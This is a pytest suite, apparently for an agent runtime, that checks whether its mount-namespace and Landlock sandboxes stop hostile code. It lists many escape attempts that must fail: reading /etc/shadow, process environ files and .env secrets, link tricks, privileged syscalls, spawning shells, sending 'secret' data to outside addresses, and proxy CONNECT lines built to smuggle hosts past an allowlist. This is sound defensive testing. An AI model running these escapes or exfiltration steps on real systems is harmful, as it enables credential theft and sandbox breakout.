"""Hostile code with declared needs, in each sandbox that this machine has: none of its ways leads out."""

from __future__ import annotations

import os
import socket
import sys
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest

from agents.runtimes.python.pools.supervisor import WorkerSupervisor
from agents.runtimes.python.sandbox.needs import Needs
from agents.runtimes.python.sandbox.sandbox import LANDLOCK, MOUNT_NAMESPACE
from tests.agents.runtimes.python.pools.trial_home import Home, supervised

pytestmark = [pytest.mark.skipif(sys.platform != "linux", reason="Linux shuts workers in")]

CALL = "libc = ctypes.CDLL(None, use_errno=True)\ndef call(*of):\n    if libc.syscall(*of) < 0: raise OSError(ctypes.get_errno(), 'refused')\n"
LINUX = sys.platform == "linux" and os.uname().machine == "x86_64"


@pytest.fixture(params=[MOUNT_NAMESPACE, LANDLOCK])
async def shut_in(request: pytest.FixtureRequest) -> AsyncIterator[WorkerSupervisor]:
    async with supervised(request.param) as made:
        yield made


@pytest.fixture
def ground(home: Home, tmp_path: Path) -> Home:
    """A workspace with more in it than one agent's own, and folders beside it."""
    for folder in (".brainstem_data", "agents", "agents/pack", "utils", ".kept"):
        (home.workspace / folder).mkdir()
    for name in (
        ".env",
        "soul.md",
        "agents/other_agent.py",
        "agents/own_agent.py",
        "agents/helper.py",
        "utils/x.py",
    ):
        (home.workspace / name).write_text(name)
    for folder in ("shown", "beside"):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "note").write_text("words")
    (tmp_path / "shown" / "link").symlink_to(tmp_path / "beside" / "note")
    (tmp_path / "shown" / "up").symlink_to("../beside")
    (tmp_path / "shown" / "root").symlink_to("/")
    os.link(home.workspace / ".env", home.workspace / ".brainstem_data" / "unlike")
    (home.workspace / ".brainstem_data" / "unlike").unlink()
    return home


@pytest.fixture
def doors(tmp_path: Path) -> Iterator[dict[str, str]]:
    """Servers of this machine: at a port, at a file in a declared folder, and without a file."""
    made = {
        "port": socket.create_server(("127.0.0.1", 0)),
        "file": socket.socket(socket.AF_UNIX),
        "name": socket.socket(socket.AF_UNIX),
    }
    made["file"].bind(str(tmp_path / "shown" / "door"))
    made["name"].bind(f"\0rappd-{os.getpid()}")
    for one in ("file", "name"):
        made[one].listen()
    yield {
        "port": str(made["port"].getsockname()[1]),
        "file": str(tmp_path / "shown" / "door"),
        "name": f"\0rappd-{os.getpid()}",
    }
    for server in made.values():
        server.close()


async def tried(supervisor: WorkerSupervisor, plan: object, ways: dict[str, str]) -> dict[str, str]:
    """The ways that worked, with what they gave. All are tried in one worker, each in a process of its own."""
    pool = supervisor.pool(f"escapes {os.urandom(4).hex()}", plan)  # type: ignore[arg-type]
    found = {}
    for name, code in ways.items():
        lines = "\n".join(f"        {line}" for line in code.splitlines())
        child = f"""
import json, os, sys, ctypes, socket, signal
from pathlib import Path
out, into = os.pipe()
if os.fork() == 0:
    answer = ''
    try:
        signal.alarm(5)
{lines}
        answer = answer or 'it worked'
    except BaseException as problem:
        answer = ''
    os.write(into, str(answer)[:200].encode())
    os._exit(0)
os.close(into)
answer = os.read(out, 400).decode()
os.close(out)
os.wait()
"""
        if said := str(await pool.request("run", {"code": child}, timeout=100)):
            found[name] = said
    return found


def reading(path: object) -> str:
    return f"answer = open({str(path)!r}, 'rb').read().decode('latin-1') or 'nothing in it'"


async def test_files_of_the_machine_and_of_the_workspace_stay_out_of_reach(
    shut_in: WorkerSupervisor, ground: Home, tmp_path: Path
) -> None:
    own, helper = (str(ground.workspace / "agents" / name) for name in ("own_agent.py", "helper.py"))
    ways = {
        "its own file": reading(own),
        "a module that it imports": reading(helper),
        "its storage": "open('.brainstem_data/new', 'w').write('x')",
        "the declared folder": reading(tmp_path / "shown" / "note"),
    }
    plan = ground.plan(needs=Needs(read=(str(tmp_path / "shown"),)), shown=(own,), imported=(helper,))
    assert set(await tried(shut_in, plan, ways)) == set(ways)
    workspace, daemon = ground.workspace, os.getpid()
    closed = {
        **{str(one): reading(one) for one in ground.secrets},
        **{
            name: reading(workspace / name)
            for name in (".env", "soul.md", "agents/other_agent.py", "utils/x.py", ".brainstem_data/../.env")
        },
        **{
            path: reading(path)
            for path in (
                *(
                    "/etc/passwd",
                    "/etc/group",
                    "/etc/hostname",
                    "/etc/fstab",
                    "/etc/resolv.conf",
                    "/etc/hosts",
                ),
                *("/etc/machine-id", "/etc/shadow", "/proc/keys", "/proc/cmdline", "/root/.bashrc"),
                *(f"/proc/{daemon}/cmdline", f"/proc/{daemon}/environ", f"/proc/{daemon}/root/etc/passwd"),
                *(f"/proc/{daemon}/cwd/pyproject.toml", f"/proc/{os.getppid()}/status"),
                *("/proc/self/root/etc/passwd", "/proc/self/cwd/.env", "/proc/thread-self/root/etc/passwd"),
                *(
                    "/dev/mem",
                    "/dev/kmsg",
                    "/dev/sda",
                    "/sys/class/dmi/id/product_uuid",
                    "/sys/class/net/lo/address",
                ),
            )
        },
        "a link out of the declared folder": reading(tmp_path / "shown" / "link"),
        "a folder that is a link": reading(tmp_path / "shown" / "up" / "note"),
        "a link to the root": reading(tmp_path / "shown" / "root" / "etc" / "passwd"),
        "above the declared folder": reading(f"{tmp_path}/shown/../beside/note"),
        "a new link to a file": f"os.symlink({str(workspace / '.env')!r}, '.brainstem_data/l')\n{reading('.brainstem_data/l')}",
        "a hard link": f"os.link({str(workspace / '.env')!r}, '.brainstem_data/h')",
        "a hard link out of the declared folder": f"os.link({str(tmp_path / 'shown/note')!r}, '.brainstem_data/h')",
        "writing what is read": f"open({str(tmp_path / 'shown/note')!r}, 'a').write('x')",
        "a new file in what is read": f"open({str(tmp_path / 'shown/new')!r}, 'w')",
        "removing what is read": f"os.unlink({str(tmp_path / 'shown/note')!r})",
        "its rights": f"os.chmod({str(tmp_path / 'shown/note')!r}, 0o777)"
        if shut_in.sandbox_report()["kind"] == MOUNT_NAMESPACE
        else "raise OSError",
        "writing its own file": f"open({own!r}, 'a').write('x')",
        "packages": "open('.deps/planted.py', 'w')",
        "people": "answer = os.listdir('/home')[0]",
        "who logged in": "answer = os.listdir('/var/log')[0]",
        "sockets of services": "answer = os.listdir('/run')[0]",
        "a file by its handle": "raise OSError" if not LINUX else f"{CALL}call(304, -100, 0, 0)",
    }
    assert await tried(shut_in, plan, closed) == {}
    await tried(shut_in, plan, {"a module beside it": f"open({str(workspace / 'agents/json.py')!r}, 'w')"})
    assert not (workspace / "agents" / "json.py").exists(), "at most in a view of its own"


@pytest.mark.parametrize("in_a_home", [True, False])
async def test_declared_folder_around_the_workspace_does_not_show_it(
    shut_in: WorkerSupervisor, ground: Home, tmp_path: Path, in_a_home: bool
) -> None:
    own = str(ground.workspace / "agents" / "own_agent.py")
    beside = reading(tmp_path / "beside" / "note")
    root = ground.path if in_a_home else None
    plan = ground.plan(needs=Needs(read=(str(tmp_path),)), shown=(own,), private_root=root)
    assert set(await tried(shut_in, plan, {"beside": beside, "own": reading(own)})) == {"beside", "own"}
    files = (".env", "soul.md", "agents/other_agent.py", "agents/helper.py", "utils/x.py")
    closed = [*map(ground.workspace.joinpath, files), *(ground.secrets if in_a_home else ())]
    assert await tried(shut_in, plan, {str(one): reading(one) for one in closed}) == {}


async def test_processes_kernel_and_programs_stay_out_of_reach(
    shut_in: WorkerSupervisor, ground: Home
) -> None:
    calls = {
        "ptrace": "101, 16, os.getppid(), 0, 0",
        "memory of others": "310, os.getppid(), 0, 0, 0, 0, 0",
        "descriptors of others": "438, 0, 0, 0",
        "io_uring": "425, 8, 0",
        "userfaultfd": "323, 0",
        "keyctl": "250, 0, -3, 0",
        "add_key": "248, b'user', b'a', b'b', 1, -3",
        "bpf": "321, 0, 0, 0",
        "perf": "298, 0, 0, 0, 0, 0",
        "mount": "165, b'none', b'/', 0, 4096 | 32, 0",
        "a tmpfs in a namespace of its own": "0 if libc.unshare(0x10020000) else 165, b'none', b'/tmp', b'tmpfs', 0, 0",
        "open_tree": "428, -100, b'/', 1",
        "pivot_root": "155, b'/', b'/'",
        "modules": "313, 0, b'', 0",
        "reboot": "169, 0, 0, 0, 0",
    }
    ways = {
        **{name: f"{CALL}call({of})" for name, of in calls.items() if LINUX},
        **{
            name: f"import subprocess\nanswer = subprocess.run({of!r}, check=True, capture_output=True, text=True).stdout"
            for name, of in {
                "a program": ["cat", "/etc/hostname"],
                "a program by its path": ["/bin/ls", "/"],
                "the interpreter": [sys.executable, "-c", "print(1)"],
                "its real file": [os.path.realpath(sys.executable), "-c", "print(1)"],
                "a shell": ["/bin/sh", "-c", "echo 1"],
                "one that is root's": ["/usr/bin/su", "--version"],
                "the loader": ["/lib64/ld-linux-x86-64.so.2", "/bin/ls", "/"],
            }.items()
        },
        "os.system": "assert os.system('echo 1 >/dev/null') == 0",
        "ending the daemon": f"os.kill({os.getpid()}, 0)",
        "one's own privileges": "os.setuid(0 if os.getuid() else 1)\nopen('/etc/passwd')",
        "root's folder": "os.chroot('/proc/1/root')\nopen('/etc/passwd')",
        "shared memory": "answer = os.listdir('/dev/shm')[0]",
    }
    assert await tried(shut_in, ground.plan(needs=Needs()), ways) == {}


async def test_nothing_listens_to_code_without_hosts(
    shut_in: WorkerSupervisor, ground: Home, doors: dict[str, str], tmp_path: Path
) -> None:
    plan = ground.plan(needs=Needs(read=(str(tmp_path / "shown"),)))
    ways = {
        "a port here": f"socket.create_connection(('127.0.0.1', {doors['port']}), 2)",
        "a socket in a declared folder": f"socket.socket(socket.AF_UNIX).connect({doors['file']!r})",
        "one without a file": f"socket.socket(socket.AF_UNIX).connect({doors['name']!r})",
        "a name server": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('192.0.2.1', 53))",
        "IPv6": "socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'secret', ('2001:db8::1', 443))",
        "packets": "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
        "ping": "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)",
        "routes": "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)",
        "machines beside": "socket.socket(40, socket.SOCK_STREAM)",
        "Bluetooth": "socket.socket(31, socket.SOCK_STREAM)",
    }
    assert await tried(shut_in, plan, ways) == {}


async def test_hosts_open_nothing_but_themselves(
    shut_in: WorkerSupervisor, ground: Home, doors: dict[str, str], tmp_path: Path
) -> None:
    plan = ground.plan(needs=Needs(hosts=("one.example",), read=(str(tmp_path / "shown"),)))
    ways = {
        "a socket in a declared folder": f"socket.socket(socket.AF_UNIX).connect({doors['file']!r})",
        "one without a file": f"socket.socket(socket.AF_UNIX).connect({doors['name']!r})",
        "packets": "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
        "ping": "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)",
    }
    if shut_in.sandbox_report()["network"]:
        asked = "made = socket.create_connection(('127.0.0.1', 3128), 2)\nmade.sendall({!r})\n"
        asked += "answer = made.recv(99).decode()\nassert ' 200 ' in answer"
        lines = (
            b"CONNECT two.example:443 HTTP/1.1",
            b"CONNECT one.example:22 HTTP/1.1",
            b"CONNECT one.example.two.example:443 HTTP/1.1",
            b"CONNECT 127.0.0.1:443 HTTP/1.1",
            b"CONNECT 169.254.169.254:80 HTTP/1.1",
            b"CONNECT [::1]:443 HTTP/1.1",
            b"CONNECT 2130706433:443 HTTP/1.1",
            b"CONNECT 0x7f.1:443 HTTP/1.1",
            b"CONNECT one.example@two.example:443 HTTP/1.1",
            b"CONNECT [::ffff:127.0.0.1]:443 HTTP/1.1",
            b"CONNECT one.example:443@two.example:443 HTTP/1.1",
            "CONNECT one\u3002example:443 HTTP/1.1".encode(),
            b"CONNECT one.example:443%00.two.example HTTP/1.1",
            b"GET http://one.example@two.example/ HTTP/1.1",
            b"GET http://two.example#@one.example/ HTTP/1.1",
            b"GET http://one.example:22/ HTTP/1.1",
            b"GET http://two.example\\@one.example/ HTTP/1.1",
            b"GET / HTTP/1.1\r\nHost: one.example",
            b"GET ftp://one.example/ HTTP/1.1",
        )
        ways |= {line.decode(): asked.format(line + b"\r\n\r\n") for line in lines}
        ways |= {
            "a port here": f"socket.create_connection(('127.0.0.1', {doors['port']}), 2)",
            "a name server": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('192.0.2.1', 53))",
            "QUIC": "socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'secret', ('2001:db8::1', 443))",
            "looking a name up": "answer = socket.gethostbyname('secret.two.example')",
        }
    assert await tried(shut_in, plan, ways) == {}


async def test_processes_of_others_are_out_of_sight_in_a_container(ground: Home) -> None:
    async with supervised(MOUNT_NAMESPACE, "tests.agents.runtimes.python.pools.masked_proc") as made:
        own = {"its own": "answer = os.listdir('/proc/self/task')", "the processor": reading("/proc/cpuinfo")}
        plan = ground.plan(needs=Needs())
        assert set(await tried(made, plan, own)) == set(own)
        others = {
            f"{name} of {number}": reading(f"/proc/{number}/{name}")
            for number in (1, os.getpid(), os.getppid())
            for name in ("cmdline", "environ", "root/etc/passwd")
        }
        assert await tried(made, plan, others) == {}
